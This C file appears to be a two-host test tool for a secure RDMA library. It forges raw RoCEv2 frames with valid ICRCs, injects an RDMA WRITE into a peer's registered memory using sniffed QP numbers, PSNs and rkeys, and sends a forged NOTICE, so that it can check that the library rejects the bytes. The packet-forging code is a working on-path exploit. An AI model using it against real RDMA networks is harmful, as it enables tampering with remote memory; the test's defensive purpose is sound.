/* SPDX-License-Identifier: MIT */
/*
 * roce_inject: on-path injection in the manner of ReDMArk (Rothenberger et
 * al., USENIX Security 2021) against a sealed region on Soft-RoCE, across
 * two hosts (issue 13; tests/vm/two-hosts-guest.sh). RoCEv2 carries QP
 * numbers, PSNs, addresses and rkeys in clear and authenticates nothing,
 * so a host on the path can forge an RDMA WRITE the victim's NIC executes.
 * What secure-rdma promises is that the owner never takes such bytes for
 * data: its verification rejects them and no event reaches the
 * application.
 *
 *   roce_inject serve HOST PORT CERTS_DIR [--device DEV] [--timeout S]
 *     accepts one client, grants it a read-write region of 4 blocks, puts
 *     a known pattern into it, prints its QP number, the PSN it expects
 *     next (ibv_query_qp's rq_psn while idle), the region's address and
 *     key, then watches the region's raw memory. When bytes change it
 *     says which, calls srdma_region_get on that block, and keeps serving
 *     a few seconds to count SRDMA_EV_PEER_WRITE events and see how the
 *     connection ends. Exit 0 when the bytes landed, the get failed with
 *     SRDMA_EINTEGRITY with its buffer wiped, and no PEER_WRITE came.
 *   roce_inject inject HOST PORT CERTS_DIR --ifname IF [--device DEV]
 *                [--protect MODE] [--block B] [--no-notice]
 *     the legit client (so its source address is the one the server's QP
 *     accepts: rxe checks it), which then turns injector: it reads the
 *     region once, goes quiet, takes the server's QP number and the next
 *     PSN (srdma_conn_info's remote_qpn, and its own QP's sq_psn as the
 *     transport reads it now: the PSN the server's QP expects next), the
 *     address and key from the grant, and sends with an AF_PACKET socket
 *     on IF one
 *     Ethernet/IPv4/UDP 4791/BTH (RDMA WRITE ONLY, AckReq)/RETH/payload/
 *     ICRC frame writing 64 bytes into block B's payload, outside the
 *     library and its QP. It watches IF for the server's ACK of that PSN.
 *     Then (unless --no-notice) it forges the NOTICE that would announce
 *     the write: a SEND ONLY with the next PSN carrying a record header
 *     (NOTICE, the next record sequence) and a body, with a made-up tag:
 *     it has no key. Exit 0 when the server's NIC acknowledged the write.
 *
 * The ICRC (IBTA spec annex A17, RoCEv2): CRC-32 over 8 bytes of 0xff
 * standing for the LRH, the IPv4 header with TOS, TTL and checksum set to
 * all ones, the UDP header with its checksum all ones, the BTH with its
 * reserved byte (FECN/BECN) all ones, then the rest of the packet; sent
 * inverted, least significant byte first (as Linux's rxe_icrc.c). Frames
 * captured while the legit client worked are checked against it first.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <linux/if_ether.h>
#include <linux/if_packet.h>

#include "srdma.h"
#include "session/conn.h"

enum {
	TMO = 30000,
	NBLOCKS = 4,
	ROCE_PORT = 4791,
	OP_SEND_ONLY = 0x04,
	OP_WRITE_ONLY = 0x0a,
	OP_ACK = 0x11,
	BTH_LEN = 12,
	RETH_LEN = 16,
	AETH_LEN = 4,
	ICRC_LEN = 4,
	FORGED_LEN = 64,
	FORGED_BYTE = 0xee,
	PATTERN = 0x11,
};

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* ---- the owner ---- */

static int serve(const char *host, const char *port, const char *certs,
		 const char *device, double timeout)
{
	struct srdma_config cfg;
	struct srdma_conn_info ci;
	struct srdma_event evs[16];
	srdma_ctx *ctx = NULL;
	srdma_listener *l = NULL;
	srdma_conn *c = NULL;
	srdma_region *r = NULL;
	uint8_t *snap = NULL, pat[NBLOCKS * SRDMA_BLOCK_SIZE];
	uint8_t got[SRDMA_BLOCK_SIZE];
	int peer_writes = 0, closed = 0, status = 0, get_rc = 1, rc = 2;
	uint32_t psn;
	double dl = now_s() + timeout, landed_at = 0;
	char detail[256] = "";

	srdma_config_init(&cfg, SRDMA_ROLE_SERVER);
	cfg.transport = SRDMA_TRANSPORT_VERBS;
	cfg.device = device;
	cfg.certs_dir = certs;
	cfg.protect = SRDMA_PROTECT_NONE; /* the client picks */
	if (srdma_ctx_create(&cfg, &ctx) < 0 ||
	    srdma_listen(ctx, host, (uint16_t)atoi(port), &l) < 0) {
		fprintf(stderr, "serve: %s\n", srdma_error_detail());
		goto out;
	}
	printf("serve: listening on %s:%s\n", host, port);
	while (!c && now_s() < dl) {
		int n = srdma_ctx_poll(ctx, evs, 16, 100);
		for (int i = 0; i < n; i++)
			if (evs[i].type == SRDMA_EV_ACCEPTED)
				c = evs[i].conn;
	}
	if (!c) {
		fprintf(stderr, "serve: no client came\n");
		goto out;
	}
	memset(pat, PATTERN, sizeof(pat));
	if (srdma_region_create(c, sizeof(pat),
				SRDMA_ACCESS_REMOTE_READ |
					SRDMA_ACCESS_REMOTE_WRITE,
				&r) < 0 ||
	    srdma_region_put(r, 0, pat, sizeof(pat)) < 0) {
		fprintf(stderr, "serve: region: %s\n", srdma_error_detail());
		goto out;
	}
	snap = malloc(r->mem_len);
	if (!snap || srdma_conn_info(c, &ci) < 0)
		goto out;
	memcpy(snap, r->mem, r->mem_len);
	printf("serve: %s; region %u at 0x%" PRIx64 " key 0x%" PRIx64
	       ", %u blocks of stride %u; QP %u, peer QP %u\n",
	       srdma_protect_name(ci.protect), srdma_region_id(r), r->mr->addr,
	       r->mr->key, NBLOCKS, r->stride, ci.local_qpn, ci.remote_qpn);
	psn = ci.remote_psn + 1; /* print the first */

	while (now_s() < dl && !closed) {
		struct srdma__tp_info ti = {0};
		int n = srdma_ctx_poll(ctx, evs, 16, 20);

		/* The PSN the QP expects next, read back (ibv_query_qp's
		 * rq_psn) whenever it moves: the client's read, then what
		 * the injector sends. */
		if (c->tc && c->ctx->tp->ops->conn_info(c->tc, &ti) == 0 &&
		    ti.local_qpn && ti.rq_psn_now != psn) {
			psn = ti.rq_psn_now;
			printf("serve: QP %u expects PSN %u (0x%06x)\n",
			       ci.local_qpn, psn, psn);
		}
		if (!landed_at && memcmp(snap, r->mem, r->mem_len)) {
			size_t a = 0, z = r->mem_len;
			uint64_t b;

			while (snap[a] == r->mem[a])
				a++;
			while (snap[z - 1] == r->mem[z - 1])
				z--;
			b = a / r->stride;
			landed_at = now_s();
			printf("serve: landed: bytes %zu..%zu of the region's "
			       "memory changed (block %" PRIu64 ", byte %zu "
			       "of it, now 0x%02x)\n",
			       a, z - 1, b, a % r->stride, r->mem[a]);
			memset(got, 0x55, sizeof(got));
			get_rc = srdma_region_get(r, b * SRDMA_BLOCK_SIZE, got,
						  sizeof(got));
			printf("serve: srdma_region_get(block %" PRIu64
			       "): %s (%s)\n",
			       b, get_rc ? srdma_strerror(get_rc) : "ok",
			       get_rc ? srdma_error_detail() : "");
			if (get_rc == SRDMA_EINTEGRITY) {
				for (size_t i = 0; i < sizeof(got); i++)
					if (got[i])
						get_rc = 1; /* not wiped */
				if (get_rc == 1)
					printf("serve: the buffer was not "
					       "wiped\n");
			}
			dl = now_s() + 6; /* the forged NOTICE, if any */
		}
		for (int i = 0; i < n; i++) {
			if (evs[i].conn != c)
				continue;
			if (evs[i].type == SRDMA_EV_PEER_WRITE) {
				peer_writes++;
				printf("serve: SRDMA_EV_PEER_WRITE at %" PRIu64
				       "+%zu\n",
				       evs[i].offset, evs[i].len);
			} else if (evs[i].type == SRDMA_EV_CLOSED) {
				closed = 1;
				status = evs[i].status;
				snprintf(detail, sizeof(detail), "%s",
					 evs[i].detail ? evs[i].detail : "");
			}
		}
	}
	printf("serve: %s; PEER_WRITE events %d; connection %s%s%s%s\n",
	       landed_at ? "forged bytes landed" : "nothing landed",
	       peer_writes,
	       !closed	    ? "still open"
	       : status < 0 ? "failed: "
			    : "closed in order",
	       closed && status < 0 ? srdma_strerror(status) : "",
	       detail[0] ? " " : "", detail);
	rc = landed_at && get_rc == SRDMA_EINTEGRITY && !peer_writes ? 0 : 1;
out:
	free(snap);
	srdma_region_destroy(r);
	srdma_conn_destroy(c);
	srdma_listener_destroy(l);
	srdma_ctx_destroy(ctx);
	return rc;
}

/* ---- RoCEv2 frames ---- */

static uint32_t crc32_raw(uint32_t crc, const uint8_t *p, size_t n)
{
	while (n--) {
		crc ^= *p++;
		for (int k = 0; k < 8; k++)
			crc = (crc >> 1) ^ (0xedb88320u & -(crc & 1u));
	}
	return crc;
}

/* The ICRC of an IPv4 RoCEv2 packet: ip points at the IPv4 header, len
 * bytes up to (not including) the ICRC. */
static uint32_t icrc(const uint8_t *ip, size_t len)
{
	static const uint8_t lrh[8] = {0xff, 0xff, 0xff, 0xff,
				       0xff, 0xff, 0xff, 0xff};
	size_t ihl = (size_t)(ip[0] & 0x0f) * 4;
	uint8_t h[60 + 8 + BTH_LEN];
	uint32_t crc = crc32_raw(0xffffffffu, lrh, sizeof(lrh));

	memcpy(h, ip, ihl + 8 + BTH_LEN);
	h[1] = 0xff;			/* TOS */
	h[8] = 0xff;			/* TTL */
	h[10] = h[11] = 0xff;		/* IP checksum */
	h[ihl + 6] = h[ihl + 7] = 0xff; /* UDP checksum */
	h[ihl + 8 + 4] = 0xff;		/* BTH FECN, BECN, reserved */
	crc = crc32_raw(crc, h, ihl + 8 + BTH_LEN);
	crc = crc32_raw(crc, ip + ihl + 8 + BTH_LEN, len - ihl - 8 - BTH_LEN);
	return ~crc;
}

static uint16_t ip_csum(const uint8_t *h, size_t n)
{
	uint32_t s = 0;

	for (size_t i = 0; i < n; i += 2)
		s += (uint32_t)h[i] << 8 | h[i + 1];
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

struct roce {
	const uint8_t *eth, *ip, *bth;
	size_t len; /* IP packet bytes */
	uint32_t saddr, daddr, dqpn, psn;
	uint8_t op;
	int ok; /* the ICRC verified */
};

/* A captured frame: is it IPv4/UDP 4791 with a whole BTH? */
static int parse(const uint8_t *f, size_t n, struct roce *r)
{
	size_t ihl, tot;

	if (n < 14 + 20 || f[12] != 0x08 || f[13] != 0x00)
		return -1;
	r->eth = f;
	r->ip = f + 14;
	ihl = (size_t)(r->ip[0] & 0x0f) * 4;
	tot = (size_t)r->ip[2] << 8 | r->ip[3];
	if ((r->ip[0] >> 4) != 4 || r->ip[9] != 17 || ihl < 20 ||
	    tot > n - 14 || tot < ihl + 8 + BTH_LEN + ICRC_LEN ||
	    ((size_t)r->ip[ihl + 2] << 8 | r->ip[ihl + 3]) != ROCE_PORT)
		return -1;
	r->len = tot;
	memcpy(&r->saddr, r->ip + 12, 4);
	memcpy(&r->daddr, r->ip + 16, 4);
	r->bth = r->ip + ihl + 8;
	r->op = r->bth[0];
	r->dqpn = (uint32_t)r->bth[5] << 16 | (uint32_t)r->bth[6] << 8 |
		  r->bth[7];
	r->psn = (uint32_t)r->bth[9] << 16 | (uint32_t)r->bth[10] << 8 |
		 r->bth[11];
	{
		uint32_t want = icrc(r->ip, tot - ICRC_LEN);
		const uint8_t *p = r->ip + tot - ICRC_LEN;
		r->ok = p[0] == (uint8_t)want && p[1] == (uint8_t)(want >> 8) &&
			p[2] == (uint8_t)(want >> 16) &&
			p[3] == (uint8_t)(want >> 24);
	}
	return 0;
}

struct sniff {
	int fd, ifindex;
	uint32_t me, peer; /* IPv4, network order */
	uint8_t my_mac[6], peer_mac[6];
	int have_peer_mac;
	unsigned frames, icrc_ok;
	int last_psn_to_peer; /* -1: none seen */
};

/* Reads what IF saw; returns the AETH syndrome of an ACK from the peer
 * for PSN want (>= 0) if one came, else -1. */
static int sniff_drain(struct sniff *s, int want_ack, int wait_ms)
{
	uint8_t f[9000];
	double dl = now_s() + wait_ms / 1000.0;

	for (;;) {
		struct pollfd pfd = {.fd = s->fd, .events = POLLIN};
		struct sockaddr_ll from;
		socklen_t fl = sizeof(from);
		struct roce r;
		int left = (int)((dl - now_s()) * 1000);
		ssize_t n;

		if (poll(&pfd, 1, left > 0 ? left : 0) <= 0)
			return -1;
		n = recvfrom(s->fd, f, sizeof(f), 0, (struct sockaddr *)&from,
			     &fl);
		if (n <= 0 || parse(f, (size_t)n, &r) < 0)
			continue;
		s->frames++;
		s->icrc_ok += r.ok;
		if (r.saddr == s->peer && r.daddr == s->me &&
		    from.sll_pkttype != PACKET_OUTGOING) {
			memcpy(s->peer_mac, f + 6, 6);
			s->have_peer_mac = 1;
			if (want_ack >= 0 && r.op == OP_ACK &&
			    (int)r.psn == want_ack)
				return r.bth[BTH_LEN];
		} else if (r.saddr == s->me && r.daddr == s->peer) {
			s->last_psn_to_peer = (int)r.psn;
		}
	}
}

static int sniff_open(struct sniff *s, const char *ifname, const char *peer)
{
	struct sockaddr_ll sa = {.sll_family = AF_PACKET,
				 .sll_protocol = htons(ETH_P_ALL)};
	struct ifreq ifr;

	memset(s, 0, sizeof(*s));
	s->last_psn_to_peer = -1;
	if (inet_pton(AF_INET, peer, &s->peer) != 1) {
		fprintf(stderr, "inject: %s is not an IPv4 address\n", peer);
		return -1;
	}
	s->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	if (s->fd < 0) {
		perror("inject: AF_PACKET socket (needs CAP_NET_RAW)");
		return -1;
	}
	memset(&ifr, 0, sizeof(ifr));
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", ifname);
	if (ioctl(s->fd, SIOCGIFINDEX, &ifr) < 0)
		goto fail;
	s->ifindex = ifr.ifr_ifindex;
	if (ioctl(s->fd, SIOCGIFHWADDR, &ifr) < 0)
		goto fail;
	memcpy(s->my_mac, ifr.ifr_hwaddr.sa_data, 6);
	ifr.ifr_addr.sa_family = AF_INET;
	if (ioctl(s->fd, SIOCGIFADDR, &ifr) < 0)
		goto fail;
	s->me = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
	sa.sll_ifindex = s->ifindex;
	if (bind(s->fd, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		goto fail;
	return 0;
fail:
	fprintf(stderr, "inject: %s: %s\n", ifname, strerror(errno));
	close(s->fd);
	return -1;
}

/* The peer's MAC from the neighbour table when no frame showed it. */
static int arp_mac(const char *peer, uint8_t mac[6])
{
	char line[256], ip[64], hw[64];
	FILE *f = fopen("/proc/net/arp", "r");
	int found = -1;

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "%63s %*s %*s %63s", ip, hw) == 2 &&
		    !strcmp(ip, peer) &&
		    sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0],
			   &mac[1], &mac[2], &mac[3], &mac[4], &mac[5]) == 6)
			found = 0;
	fclose(f);
	return found;
}

/* Builds and sends one RC request: BTH (op, dqpn, psn, AckReq), then ext
 * (RETH or nothing), then the payload, then the ICRC. */
static int send_forged(struct sniff *s, uint8_t op, uint32_t dqpn, uint32_t psn,
		       const uint8_t *ext, size_t ext_len, const uint8_t *pay,
		       size_t pay_len)
{
	uint8_t f[14 + 20 + 8 + BTH_LEN + RETH_LEN + 256 + ICRC_LEN];
	uint8_t *ip = f + 14, *udp = ip + 20, *bth = udp + 8;
	size_t pad = (4 - pay_len % 4) % 4;
	size_t l4 = 8 + BTH_LEN + ext_len + pay_len + pad + ICRC_LEN;
	uint16_t id = (uint16_t)(rand() & 0xffff);
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
				 .sll_ifindex = s->ifindex,
				 .sll_halen = 6};
	uint32_t crc;

	if (ext_len + pay_len + pad > RETH_LEN + 256)
		return -1;
	memset(f, 0, sizeof(f));
	memcpy(f, s->peer_mac, 6);
	memcpy(f + 6, s->my_mac, 6);
	f[12] = 0x08, f[13] = 0x00;
	ip[0] = 0x45;
	ip[2] = (uint8_t)((20 + l4) >> 8), ip[3] = (uint8_t)(20 + l4);
	ip[4] = (uint8_t)(id >> 8), ip[5] = (uint8_t)id;
	ip[6] = 0x40; /* DF */
	ip[8] = 64;
	ip[9] = 17;
	memcpy(ip + 12, &s->me, 4);
	memcpy(ip + 16, &s->peer, 4);
	{
		uint16_t ck = ip_csum(ip, 20);
		ip[10] = (uint8_t)(ck >> 8), ip[11] = (uint8_t)ck;
	}
	udp[0] = 0xc0, udp[1] = 0x01; /* any source port: rxe ignores it */
	udp[2] = ROCE_PORT >> 8, udp[3] = ROCE_PORT & 0xff;
	udp[4] = (uint8_t)(l4 >> 8), udp[5] = (uint8_t)l4;
	/* UDP checksum 0: none (IPv4). */
	bth[0] = op;
	bth[1] = (uint8_t)(pad << 4); /* SE 0, MigReq 0, pad, TVer 0 */
	bth[2] = bth[3] = 0xff;	      /* default P_Key */
	bth[5] = (uint8_t)(dqpn >> 16), bth[6] = (uint8_t)(dqpn >> 8);
	bth[7] = (uint8_t)dqpn;
	bth[8] = 0x80; /* AckReq */
	bth[9] = (uint8_t)(psn >> 16), bth[10] = (uint8_t)(psn >> 8);
	bth[11] = (uint8_t)psn;
	memcpy(bth + BTH_LEN, ext, ext_len);
	memcpy(bth + BTH_LEN + ext_len, pay, pay_len);
	crc = icrc(ip, 20 + l4 - ICRC_LEN);
	for (int i = 0; i < 4; i++)
		ip[20 + l4 - ICRC_LEN + i] = (uint8_t)(crc >> (8 * i));
	memcpy(to.sll_addr, s->peer_mac, 6);
	if (sendto(s->fd, f, 14 + 20 + l4, 0, (struct sockaddr *)&to,
		   sizeof(to)) != (ssize_t)(14 + 20 + l4)) {
		perror("inject: sendto");
		return -1;
	}
	return 0;
}

static void put_be(uint8_t *p, uint64_t v, int n)
{
	for (int i = 0; i < n; i++)
		p[i] = (uint8_t)(v >> (8 * (n - 1 - i)));
}

static const char *syndrome(int s)
{
	if (s < 0)
		return "no answer";
	if ((s & 0xe0) == 0x00)
		return "ACK";
	if ((s & 0xe0) == 0x20)
		return "RNR NAK";
	switch (s) {
	case 0x60:
		return "NAK: PSN sequence error";
	case 0x61:
		return "NAK: invalid request";
	case 0x62:
		return "NAK: remote access error";
	case 0x63:
		return "NAK: remote operational error";
	default:
		return "NAK";
	}
}

static int inject(const char *host, const char *port, const char *certs,
		  const char *device, const char *ifname,
		  enum srdma_protect protect, uint64_t block, int notice)
{
	struct srdma_config cfg;
	struct srdma_conn_info ci;
	struct srdma__tp_info ti = {0};
	struct srdma_event ev;
	struct remote_region *rr;
	struct sniff s;
	srdma_ctx *ctx = NULL;
	srdma_conn *c = NULL;
	uint8_t buf[NBLOCKS * SRDMA_BLOCK_SIZE], reth[RETH_LEN];
	uint8_t pay[FORGED_LEN];
	uint64_t len = 0, va;
	uint32_t psn;
	int id, ack, rc = 2;

	if (sniff_open(&s, ifname, host) < 0)
		return 2;
	srdma_config_init(&cfg, SRDMA_ROLE_CLIENT);
	cfg.transport = SRDMA_TRANSPORT_VERBS;
	cfg.device = device;
	cfg.certs_dir = certs;
	cfg.protect = protect;
	if (srdma_ctx_create(&cfg, &ctx) < 0 ||
	    srdma_connect(ctx, host, (uint16_t)atoi(port), TMO, &c) < 0 ||
	    (id = srdma_conn_wait_region(c, 0, TMO, &len)) < 0 ||
	    len != sizeof(buf) ||
	    srdma_read_sync(c, (uint32_t)id, 0, buf, sizeof(buf), TMO) < 0) {
		fprintf(stderr, "inject: legit client: %s\n",
			srdma_error_detail());
		goto out;
	}
	for (size_t i = 0; i < sizeof(buf); i++)
		if (buf[i] != PATTERN) {
			fprintf(stderr, "inject: the region does not hold the "
					"server's pattern\n");
			goto out;
		}
	/* Quiet from here: nothing more goes out of this QP, so the PSN it
	 * would send next is the one the server's QP expects. */
	for (double t = now_s() + 0.5; now_s() < t;)
		(void)srdma_ctx_poll(ctx, &ev, 1, 50);
	(void)sniff_drain(&s, -1, 300);
	if (srdma_conn_info(c, &ci) < 0 ||
	    !(rr = find_remote(c, (uint32_t)id)) ||
	    c->ctx->tp->ops->conn_info(c->tc, &ti) < 0)
		goto out;
	psn = ti.sq_psn_now; /* srdma_conn_info's is the one agreed at RTS */
	if (!s.have_peer_mac && arp_mac(host, s.peer_mac) < 0) {
		fprintf(stderr, "inject: no MAC for %s\n", host);
		goto out;
	}
	printf("inject: legit client (%s) QP %u -> server QP %u; next PSN "
	       "%u (0x%06x); region %d at 0x%" PRIx64 " key 0x%" PRIx64
	       " stride %u\n",
	       srdma_protect_name(ci.protect), ci.local_qpn, ci.remote_qpn, psn,
	       psn, id, rr->addr, rr->key, rr->stride);
	printf("inject: captured %u RoCE frames, %u with an ICRC our CRC "
	       "reproduces; last PSN this host sent the server: %d\n",
	       s.frames, s.icrc_ok, s.last_psn_to_peer);
	if (s.frames && s.icrc_ok != s.frames)
		printf("inject: warning: our ICRC differs from rxe's\n");

	/* RDMA WRITE ONLY of 64 bytes into block `block`'s payload. */
	va = rr->addr + block * rr->stride +
	     srdma__block_payload_off(ci.protect);
	put_be(reth, va, 8);
	put_be(reth + 8, (uint32_t)rr->key, 4);
	put_be(reth + 12, FORGED_LEN, 4);
	memset(pay, FORGED_BYTE, sizeof(pay));
	if (send_forged(&s, OP_WRITE_ONLY, ci.remote_qpn, psn, reth,
			sizeof(reth), pay, sizeof(pay)) < 0)
		goto out;
	ack = sniff_drain(&s, (int)psn, 3000);
	printf("inject: forged RDMA WRITE ONLY: QP %u PSN %u rkey 0x%08x va "
	       "0x%" PRIx64 " (block %" PRIu64 ") %d bytes of 0x%02x: %s "
	       "(AETH syndrome %d)\n",
	       ci.remote_qpn, psn, (uint32_t)rr->key, va, block, FORGED_LEN,
	       FORGED_BYTE, syndrome(ack), ack);
	rc = (ack >= 0 && (ack & 0xe0) == 0) ? 0 : 1;

	if (notice && rc == 0) {
		/* The record that would announce it: NOTICE, next sequence,
		 * a body naming the write, and a tag it cannot compute. */
		struct srdma__notice nt = {.region = (uint32_t)id,
					   .offset = block * SRDMA_BLOCK_SIZE,
					   .len = SRDMA_BLOCK_SIZE,
					   .version = rr->write_version + 1};
		uint8_t rec[SRDMA_REC_HDR_LEN + SRDMA_NOTICE_LEN + 16];
		int n;

		sleep(2); /* the owner looks at its region meanwhile */
		rec[0] = SRDMA_REC_NOTICE;
		rec[1] = 0;
		put_be(rec + 2, 0, 2);
		put_be(rec + 4, SRDMA_NOTICE_LEN, 4);
		put_be(rec + 8, c->tx.seq, 8);
		n = srdma__notices_encode(&nt, 1, rec + SRDMA_REC_HDR_LEN,
					  SRDMA_NOTICE_LEN);
		for (size_t i = 0; i < 16; i++)
			rec[SRDMA_REC_HDR_LEN + SRDMA_NOTICE_LEN + i] =
				(uint8_t)rand();
		if (n == SRDMA_NOTICE_LEN &&
		    send_forged(&s, OP_SEND_ONLY, ci.remote_qpn, psn + 1, NULL,
				0, rec, sizeof(rec)) == 0) {
			ack = sniff_drain(&s, (int)((psn + 1) & 0xffffff),
					  3000);
			printf("inject: forged NOTICE (SEND ONLY, PSN %u, "
			       "record sequence %" PRIu64 ", made-up tag): "
			       "%s\n",
			       (psn + 1) & 0xffffff, c->tx.seq, syndrome(ack));
		}
	}
out:
	if (rc == 2)
		fprintf(stderr, "inject: set-up failed\n");
	/* The connection is out of step now (the server's QP counted our
	 * PSNs): drop it without a goodbye. */
	srdma_ctx_destroy(ctx);
	close(s.fd);
	return rc;
}

static int usage(void)
{
	fprintf(stderr,
		"usage: roce_inject serve HOST PORT CERTS_DIR [--device DEV] "
		"[--timeout S]\n"
		"       roce_inject inject HOST PORT CERTS_DIR --ifname IF "
		"[--device DEV] [--protect MODE] [--block B] [--no-notice]\n");
	return 2;
}

int main(int argc, char **argv)
{
	const char *device = NULL, *ifname = NULL;
	enum srdma_protect protect = SRDMA_PROTECT_ENCRYPT;
	double timeout = 300;
	uint64_t block = 1;
	int notice = 1;

	if (argc < 5)
		return usage();
	for (int i = 5; i < argc; i++) {
		const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
		if (!strcmp(a, "--no-notice")) {
			notice = 0;
		} else if (!v) {
			return usage();
		} else if (!strcmp(a, "--device")) {
			device = v, i++;
		} else if (!strcmp(a, "--ifname")) {
			ifname = v, i++;
		} else if (!strcmp(a, "--timeout")) {
			timeout = atof(v), i++;
		} else if (!strcmp(a, "--block")) {
			block = strtoull(v, NULL, 0) % NBLOCKS, i++;
		} else if (!strcmp(a, "--protect")) {
			protect = !strcmp(v, "integrity")
					  ? SRDMA_PROTECT_INTEGRITY
					  : SRDMA_PROTECT_ENCRYPT;
			i++;
		} else {
			return usage();
		}
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	srand((unsigned)time(NULL) ^ (unsigned)getpid());
	if (!strcmp(argv[1], "serve"))
		return serve(argv[2], argv[3], argv[4], device, timeout);
	if (!strcmp(argv[1], "inject") && ifname)
		return inject(argv[2], argv[3], argv[4], device, ifname,
			      protect, block, notice);
	return usage();
}
